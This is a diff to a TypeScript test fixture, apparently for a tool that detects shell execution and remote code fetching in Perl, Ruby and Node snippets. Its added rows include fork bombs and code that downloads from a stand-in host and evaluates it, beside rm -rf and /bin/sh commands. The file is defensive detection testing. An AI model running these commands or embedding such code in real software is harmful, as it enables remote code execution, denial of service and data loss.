@@ -7,6 +7,10 @@ type Rows = readonly (readonly [code: string, found: readonly string[]])[];
 const perl: Rows = [
   ['exec "/bin/sh"', ['line /bin/sh']],
   ['system("ls", "-l")', ['program ls -l']],
+  ['fork while fork', ['line :(){ :|:& };:']],
+  ['while (1) { fork }', ['line :(){ :|:& };:']],
+  ['if (fork) { wait } else { exec "id" }', ['line id']],
+  ['use LWP::Simple; eval get("http://e/x")', ['fetch http://e/x', 'evaluate …']],
   ['system(split(" ", "rm -rf /x"))', ['program rm -rf /x']],
   ['system "rm -rf $x"', ['line rm -rf …']],
   ['my $c = "id"; system $c', ['line id']],
@@ -55,6 +59,8 @@ const perl: Rows = [
 ];
 
 const ruby: Rows = [
+  ['loop { fork }', ['line :(){ :|:& };:']],
+  ['exit if fork; while x = gets; puts x; end', []],
   ['exec "/bin/sh"', ['line /bin/sh']],
   ['system("ls", "-l"); spawn({"A" => "b"}, "id")', ['program ls -l', 'line id']],
   ['puts `id`; x = %x(ls -l)', ['line id', 'line ls -l']],
@@ -87,6 +93,10 @@ const ruby: Rows = [
 ];
 
 const node: Rows = [
+  [
+    'require("https").get("https://e/x", r => { let d = ""; r.on("data", c => d += c); r.on("end", () => eval(d)) })',
+    ['fetch https://e/x', 'evaluate …'],
+  ],
   ['require("child_process").execSync("id")', ['line id']],
   [
     'const {exec: e, spawn} = require("node:child_process"); e(`rm -rf ${"/" + "x"}`); spawn("ls", ["-l"], {shell: true})',
